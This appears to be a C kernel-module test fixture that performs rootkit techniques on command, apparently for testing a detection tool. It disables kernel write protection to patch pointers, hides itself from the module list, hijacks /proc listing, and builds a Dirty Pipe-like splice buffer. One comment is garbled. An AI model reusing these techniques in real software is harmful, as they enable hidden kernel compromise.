/*
 * A kernel module that does, when told to, what drivers and rootkits do. It is compiled without the kernel's headers:
 * sizes and offsets come from the kernel's BTF as macros (tests/guests/module.py), functions are declared here.
 *
 * A word written into /sys/module/deeds/parameters/act is one deed; see act().
 */
typedef unsigned long ulong;
typedef unsigned int u32;
typedef unsigned short u16;

#define SECTION(name) __attribute__((section(name), used, aligned(1)))
#define AT(base, offset, type) (*(__typeof__(type) *)((char *)(base) + (offset)))

static const char info[] SECTION(".modinfo") = "license=GPL\0version=1.5\0srcversion=0123456789ABCDEF\0name=deeds\0vermagic=" VERMAGIC;

int init_module(void);
void cleanup_module(void);

struct module_image {
	char before_name[NAME_OFFSET];
	char name[INIT_OFFSET - NAME_OFFSET];
	int (*init)(void);
	char between[EXIT_OFFSET - INIT_OFFSET - 8];
	void (*exit)(void);
	char after[MODULE_SIZE - EXIT_OFFSET - 8];
} __this_module __attribute__((section(".gnu.linkonce.this_module"), aligned(64))) = {
	.name = "deeds",
	.init = init_module,
	.exit = cleanup_module,
};

struct param_ops {
	u32 flags;
	int (*set)(const char *word, const void *param);
	int (*get)(char *text, const void *param);
	void (*free)(void *arg);
};

struct param {
	const char *name;
	void *module;
	const struct param_ops *ops;
	u16 perm;
	signed char level;
	unsigned char flags;
	void *arg;
};

void *proc_create(const char *name, u16 mode, void *parent, const void *ops);
void proc_remove(void *entry);
void *debugfs_create_dir(const char *name, void *parent);
#ifdef DEBUGFS_FULL
void *debugfs_create_file_full(const char *name, u16 mode, void *parent, void *data, void *aux, const void *fops);
#else
void *debugfs_create_file(const char *name, u16 mode, void *parent, void *data, const void *fops);
#endif
void debugfs_remove(void *entry);
int __register_chrdev(u32 major, u32 minor, u32 count, const char *name, const void *fops);
void __unregister_chrdev(u32 major, u32 minor, u32 count, const char *name);
void *__root_device_register(const char *name, void *owner);
void root_device_unregister(void *device);
int register_kprobe(void *probe);
void unregister_kprobe(void *probe);
int call_usermodehelper(const char *path, char **argv, char **envp, int wait);
void *filp_open(const char *path, int flags, u16 mode);
int filp_close(void *file, void *owner);
int kstrtoull(const char *text, u32 base, unsigned long long *value);

static char file_ops[FILE_OPERATIONS_SIZE], listing_ops[FILE_OPERATIONS_SIZE], proc_ops[PROC_OPS_SIZE];
static char hidden_ops[FILE_OPERATIONS_SIZE], probe[KPROBE_SIZE];
static void *proc_entry, *debug_folder, *device;
static int major;

/* --- what the kernel may call -------------------------------------------------------- */

static int before(void *probe, void *regs) { return 0; }
static void after(void *probe, void *regs, ulong flags) { }
static long replaced(void) { return -38; /* ENOSYS */ }

/* A directory's entry without an inode number, as one that hides files leaves it. */
static int list_nothing(void *file, void *context)
{
	if (AT(context, 8, long) == 0) {
		AT(context, 8, long) = 1;
		AT(context, 0, int (*)(void *, const char *, int, long, ulong, u32))(context, "unseen", 6, 1, 0, 8);
	}
	return 0;
}

/* Pass on the pipe's last page once more, in a buffer that still says it may be written to. */
static long splice_dirty(void *file, long *at, void *pipe, ulong size, u32 flags)
{
	u32 head = AT(pipe, PIPE_HEAD, u32), mask = AT(pipe, PIPE_RING_SIZE, u32) - 1;
	char *buffers = AT(pipe, PIPE_BUFS, char *);
	char *last = buffers + ((head - 1) & mask) * PIPE_BUFFER_SIZE, *next = buffers + (head & mask) * PIPE_BUFFER_SIZE;
	ulong i;

	for (i = 0; i < PIPE_BUFFER_SIZE; i++)
		next[i] = last[i];
	AT(next, PIPE_BUFFER_OFFSET, u32) = 0;
	AT(next, PIPE_BUFFER_LEN, u32) = 1;
	AT(next, PIPE_BUFFER_FLAGS, u32) = 0x10; /* PIPE_BUF_FLAG_CAN_MERGE */
	__atomic_add_fetch(&AT(AT(last, 0, void *), PAGE_REFCOUNT, int), 1, __ATOMIC_SEQ_CST);
	AT(pipe, PIPE_HEAD, u32) = head + 1;
	return 1;
}

/* --- deeds ----------------------------------------------------------------------------- */

/* Write into what the kernel keeps read-only. */
static void poke(ulong *place, ulong value)
{
	ulong cr0;

	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~0x10000UL) : "memory");
	*(volatile ulong *)place = value;
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
}

static ulong *poked, original;
static ulong *hidden_after;
static void *changed_inode;
static const void *changed_ops;

static void make(void)
{
	void *file;

	proc_entry = proc_create("deeds_proc", 0444, 0, proc_ops);
	debug_folder = debugfs_create_dir("deeds_folder", 0);
#ifdef DEBUGFS_FULL
	file = debugfs_create_file_full("deeds_file", 0640, debug_folder, 0, 0, file_ops);
#else
	file = debugfs_create_file("deeds_file", 0640, debug_folder, 0, file_ops);
#endif
	(void)file;
	AT(listing_ops, ITERATE_SHARED, int (*)(void *, void *)) = list_nothing;
	AT(listing_ops, SPLICE_READ, long (*)(void *, long *, void *, ulong, u32)) = splice_dirty;
	major = __register_chrdev(0, 0, 1, "deeds_device", listing_ops);
	device = __root_device_register("deeds_root", &__this_module);
	/*
	 * Not a function that bfer probes: where a probe with a handler for after the instruction joins others without on
	 * one function, Linux 5.10 fails to take the last of them away and keeps it in its table when its memory has gone.
	 */
	AT(probe, KPROBE_SYMBOL, const char *) = "proc_mkdir";
	AT(probe, KPROBE_PRE, int (*)(void *, void *)) = before;
	AT(probe, KPROBE_POST, void (*)(void *, void *, ulong)) = after;
	if (register_kprobe(probe) == 0)
		unregister_kprobe(probe);
}

static void help(void)
{
	static char path[] = "/bin/true", first[] = "true", second[] = "deeds", home[] = "HOME=/nowhere";
	static char *argv[] = {first, second, 0}, *envp[] = {home, 0};

	call_usermodehelper(path, argv, envp, 2); /* UMH_WAIT_PROC */
}

/* Leave the list of modules, or come back. */
static void hide(void)
{
	ulong *list = (ulong *)((char *)&__this_module + LIST_OFFSET), *next = (ulong *)list[0], *prev = (ulong *)list[1];

	hidden_after = prev;
	prev[0] = (ulong)next;
	next[1] = (ulong)prev;
}

static void show(void)
{
	ulong *list = (ulong *)((char *)&__this_module + LIST_OFFSET), *next = (ulong *)hidden_after[0];

	list[0] = (ulong)next;
	list[1] = (ulong)hidden_after;
	next[1] = (ulong)list;
	hidden_after[0] = (ulong)list;
	hidden_after = 0;
}

/* Let the files of /proc be listed by us. */
static void change_proc(void)
{
	char *file = filp_open("/proc", 0, 0);
	ulong i;

	changed_inode = AT(file, FILE_INODE, void *);
	changed_ops = AT(changed_inode, INODE_FOPS, const void *);
	for (i = 0; i < FILE_OPERATIONS_SIZE; i++)
		hidden_ops[i] = ((const char *)changed_ops)[i];
	AT(hidden_ops, ITERATE_SHARED, int (*)(void *, void *)) = list_nothing;
	AT(changed_inode, INODE_FOPS, const void *) = hidden_ops;
	filp_close(file, 0);
}

static int act(const char *word, const void *param)
{
	unsigned long long place;

	if (!poked && kstrtoull(word, 0, &place) == 0) {
		poked = (ulong *)place;
		original = *poked;
		poke(poked, (ulong)replaced);
		return 0;
	}
	switch (word[0]) {
	case 'm':
		make();
		return 0;
	case 'r':
		if (poked)
			poke(poked, original);
		poked = 0;
		return 0;
	case 'c':
		help();
		return 0;
	case 'h':
		hide();
		return 0;
	case 's':
		show();
		return 0;
	case 'p':
		change_proc();
		return 0;
	case 'q':
		if (changed_inode)
			AT(changed_inode, INODE_FOPS, const void *) = changed_ops;
		changed_inode = 0;
		return 0;
	}
	return -22; /* EINVAL */
}

static const struct param_ops act_ops = {.set = act};
static const char act_name[] = "act";
static const struct param act_param __attribute__((section("__param"), used, aligned(8))) = {
	.name = act_name,
	.module = &__this_module,
	.ops = &act_ops,
	.perm = 0200,
	.level = -1,
};

int init_module(void)
{
	return 0;
}

void cleanup_module(void)
{
	if (proc_entry)
		proc_remove(proc_entry);
	if (debug_folder)
		debugfs_remove(debug_folder);
	if (device)
		root_device_unregister(device);
	if (major > 0)
		__unregister_chrdev(major, 0, 1, "deeds_device");
}
